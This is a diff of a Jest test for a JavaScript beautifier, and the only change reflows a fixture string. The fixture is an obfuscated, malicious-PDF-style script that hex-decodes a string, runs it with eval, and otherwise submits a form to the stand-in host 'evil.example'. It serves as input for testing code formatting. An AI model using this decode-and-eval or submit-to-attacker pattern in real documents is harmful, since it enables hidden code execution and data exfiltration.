@@ -3,7 +3,8 @@ import { beautifyJavaScript } from "./beautify-javascript";
 
 describe("beautifyJavaScript", () => {
   it("lays a one-line script out over lines with indentation, and keeps its tokens", () => {
-    const oneLine = 'var p="";for(var i=0;i<146;i+=2){p+=String.fromCharCode(parseInt("6170702e616c657274"["substr"](i,2),16));}if(app.viewerVersion<9){eval(p);}else{this.submitForm({cURL:"http://evil.example/c"});}';
+    const oneLine =
+      'var p="";for(var i=0;i<146;i+=2){p+=String.fromCharCode(parseInt("6170702e616c657274"["substr"](i,2),16));}if(app.viewerVersion<9){eval(p);}else{this.submitForm({cURL:"http://evil.example/c"});}';
     const out = beautifyJavaScript(oneLine);
     expect(out.split("\n").length).toBeGreaterThan(5);
     expect(out).toContain("for (var i = 0; i < 146; i += 2) {\n  p += String.fromCharCode(");
